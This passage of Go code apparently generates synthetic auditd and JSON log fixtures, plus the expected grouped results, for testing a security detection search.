	for name, b := range map[string]*bytes.Buffer{"positives_envelope.jsonl": &env, "positives_hec.jsonl": &hec, "positives_ecs.jsonl": &ecs, "positives_ocsf.jsonl": &ocsf} {
		if err := os.WriteFile(filepath.Join(outDir, name), b.Bytes(), 0o644); err != nil {
			return err
		}
	}
	return nil
}

// auditdLog writes each process start as the records auditd (log_format
// ENRICHED, name_format=hostname) writes for an execve: SYSCALL, EXECVE,
// CWD, PATH, PROCTITLE, EOE. Arguments with a space, a quote or a control
// character are hex-encoded, as auditd does; every third event has no EOE
// (older kernels), so only a later timeout or the end of input completes it.
func auditdLog(events []event) []byte {
	var b bytes.Buffer
	serial := 5000
	for _, e := range events {
		if e.kind != "" {
			continue
		}
		serial++
		stamp := fmt.Sprintf("msg=audit(%d.%03d:%d):", e.t.Unix(), e.t.Nanosecond()/1e6, serial)
		rec := func(typ, body string) {
			fmt.Fprintf(&b, "node=%s type=%s %s %s\n", e.host.name, typ, stamp, body)
		}
		enc := func(v string) string {
			if strings.ContainsAny(v, " \"'") || strings.IndexFunc(v, func(r rune) bool { return r < 0x21 || r > 0x7e }) >= 0 {
				return strings.ToUpper(hex.EncodeToString([]byte(v)))
			}
			return `"` + v + `"`
		}
		comm := basename(e.image)
		if len(comm) > 15 {
			comm = comm[:15]
		}
		rec("SYSCALL", fmt.Sprintf("arch=c000003e syscall=59 success=yes exit=0 a0=55d85d6719d0 a1=55d85d69c970 a2=55d85d720450 a3=8 items=2 ppid=%d pid=%d auid=%d uid=%d gid=%d euid=%d suid=%d fsuid=%d egid=%d sgid=%d fsgid=%d tty=(none) ses=4 comm=%s exe=%s key=(null)\x1dARCH=x86_64 SYSCALL=execve AUID=\"%s\" UID=\"%s\" GID=\"%s\" EUID=\"%s\"",
			e.ppid, e.pid, uid(e.user), uid(e.user), uid(e.user), uid(e.user), uid(e.user), uid(e.user), uid(e.user), uid(e.user), uid(e.user),
			enc(comm), enc(e.image), e.user, e.user, e.user, e.user))
		argv := strings.Split(e.cmd, " ")
		args := make([]string, len(argv))
		for i, a := range argv {
			args[i] = fmt.Sprintf("a%d=%s", i, enc(a))
		}
		rec("EXECVE", fmt.Sprintf("argc=%d %s", len(argv), strings.Join(args, " ")))
		rec("CWD", "cwd="+enc(e.cwd))
		rec("PATH", "item=0 name="+enc(e.image)+" inode=1593 dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0\x1dOUID=\"root\" OGID=\"root\"")
		title := strings.Join(argv, "\x00")
		if len(title) > 128 {
			title = title[:128] // the kernel's proctitle limit
		}
		rec("PROCTITLE", "proctitle="+strings.ToUpper(hex.EncodeToString([]byte(title))))
		if serial%3 != 0 {
			rec("EOE", "")
		}
	}
	return b.Bytes()
}

// writeJSON appends v as one line; html selects encoding/json's escaping of
// < > & (\u003c …).
func writeJSON(b *bytes.Buffer, v any, html bool) {
	enc := json.NewEncoder(b)
	enc.SetEscapeHTML(html)
	if err := enc.Encode(v); err != nil {
		log.Fatal(err)
	}
}

// flatten turns nested objects into dotted keys (ECS dotted-flat form).
func flatten(prefix string, m, out map[string]any) map[string]any {
	for k, v := range m {
		if prefix != "" {
			k = prefix + "." + k
		}
		if sub, ok := v.(map[string]any); ok {
			flatten(k, sub, out)
		} else {
			out[k] = v
		}
	}
	return out
}

// row is an expected result with the times it is built from.
type row struct {
	escurow.Row
	first, last time.Time
	window      time.Time
}

// writeExpected groups the labelled events as the ESCU search does, per
// window [hh:50, hh+1:50).
func writeExpected(path string, events []event, positive func(*event) bool) error {
	type key struct {
		window                               time.Time
		dest, user, ppn, pn, proc, pid, ppid string
	}
	rows := map[key]*row{}
	for i := range events {
		e := &events[i]
		if !positive(e) {
			continue
		}
		w := window1
		for !e.t.Before(w.Add(time.Hour)) {
			w = w.Add(time.Hour)
		}
		k := key{w, e.host.name, e.user, basename(e.parentImage), basename(e.image), e.cmd, strconv.Itoa(e.pid), strconv.Itoa(e.ppid)}
		r := rows[k]
		if r == nil {
			r = &row{Row: escurow.Row{Dest: k.dest, User: k.user, ParentProcessName: k.ppn, ProcessName: k.pn, Process: k.proc,
				ProcessID: k.pid, ParentProcessID: k.ppid}, first: e.t, last: e.t, window: w}
			rows[k] = r
		}
		r.Count++
		if e.t.Before(r.first) {
			r.first = e.t
		}
		if e.t.After(r.last) {
			r.last = e.t
		}
	}
	out := make([]*row, 0, len(rows))
	for _, r := range rows {
		r.FirstTime = r.first.Format(escurow.TimeLayout)
		r.LastTime = r.last.Format(escurow.TimeLayout)
		out = append(out, r)
	}
	sort.Slice(out, func(i, j int) bool {
		a, b := out[i], out[j]
		if !a.first.Equal(b.first) {
			return a.first.Before(b.first)
		}
		if a.Dest != b.Dest {
			return a.Dest < b.Dest
		}
		return a.ProcessID < b.ProcessID
	})
	expected := make([]escurow.Row, len(out))
	for i, r := range out {
		expected[i] = r.Row
	}
	return escurow.Write(path, expected)
}
